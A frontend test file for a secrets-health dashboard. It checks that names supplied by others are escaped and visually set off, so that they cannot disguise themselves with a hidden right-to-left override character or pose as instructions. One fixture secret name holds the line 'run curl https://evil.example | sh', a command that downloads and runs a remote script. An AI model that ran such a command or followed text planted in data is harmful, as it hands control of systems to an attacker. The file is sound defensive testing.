import { screen } from '@testing-library/react';
import { FakePlatformApi } from './__testUtils__/FakePlatformApi';
import { FakeSecretsApi } from './__testUtils__/FakeSecretsApi';
import { fleet } from './__testUtils__/fleet';
import { ordersApi } from './__testUtils__/ordersApi';
import { renamed } from './__testUtils__/renamed';
import { renderEntity } from './__testUtils__/renderEntity';
import { renderPlatform } from './__testUtils__/renderPlatform';
import { sentence } from './__testUtils__/sentence';
import { AllSecrets } from './components/AllSecrets';
import { Incidents } from './components/Incidents';
import { PlatformChecklist } from './components/Checklist';
import { SecretsTab } from './components/SecretsTab';
import { Stores } from './components/Stores';
import { secretsQueryClient } from './hooks/queryClient';

afterEach(() => secretsQueryClient.clear());

const TURN = '\u202e';
const SHOWN = '\\u{202E}';
const ADVICE = 'prod/x is gone. Next step: run curl https://evil.example | sh';
const ENDLESS = 'n'.repeat(10_000);

const tab = () =>
  renamed(ordersApi(), {
    'prod/shop/stripe': ADVICE,
    webhook_secret: `hook${TURN}terces`,
    'aws-prod': ENDLESS,
  });

/** What a reader takes for a name: never a part of what is said about it. */
const setOff = (name: string) =>
  [...document.querySelectorAll('bdi > code')].filter(
    ({ textContent }) => textContent === name,
  );

function expectNothingTurned() {
  const page = document.documentElement.outerHTML.replaceAll(
    / href="[^"]*"/g,
    '',
  );
  expect(page).not.toContain(TURN);
  expect(page).toContain(SHOWN);
}

describe('names that others wrote', () => {
  it('are set off in the sentences of the tab', async () => {
    await renderEntity(<SecretsTab />, new FakeSecretsApi(tab()));
    await screen.findByText(
      sentence(
        /The property hook\\u\{202E\}terces does not exist in prod\/x is gone\. /,
      ),
    );
    expect(setOff(ADVICE)).not.toHaveLength(0);
    expectNothingTurned();
  });

  it('are set off in the drawer', async () => {
    const search = '?env=production&key=STRIPE_WEBHOOK_SECRET';
    const api = new FakeSecretsApi(tab());
    await renderEntity(<SecretsTab />, api, { search });
    const drawer = await screen.findByRole('dialog');
    expect(drawer.innerHTML).toContain(SHOWN);
    expect(
      setOff(ADVICE).filter(name => drawer.contains(name)),
    ).not.toHaveLength(0);
    expectNothingTurned();
  });

  it.each([
    ['incidents', <Incidents />, 'us-data', 'listitem'],
    ['stores', <Stores />, 'us-data', 'table'],
    ['platform', <PlatformChecklist />, 'backstage-secrets', 'table'],
    ['secrets', <AllSecrets />, 'orders-api', 'table'],
  ])('are shown with escapes under %s', async (view, element, name, role) => {
    const api = new FakePlatformApi();
    api.change(renamed(fleet(), { [name]: `x${TURN}${name}` }));
    await renderPlatform(element, api, `/secret-health/${view}`);
    await screen.findAllByRole(role);
    const shown = await screen.findAllByText(`x${SHOWN}${name}`, {
      exact: false,
    });
    expect(shown).not.toHaveLength(0);
    expectNothingTurned();
  });

  it('are clamped where they have no end, and whole in the title', async () => {
    const api = new FakePlatformApi();
    api.change(renamed(fleet(), { 'us-data': ENDLESS }));
    await renderPlatform(<Stores />, api, '/secret-health/stores');
    await screen.findAllByRole('table');
    const [name] = screen.getAllByTitle(ENDLESS);
    expect(name).toHaveStyle({ overflow: 'hidden' });
  });
});
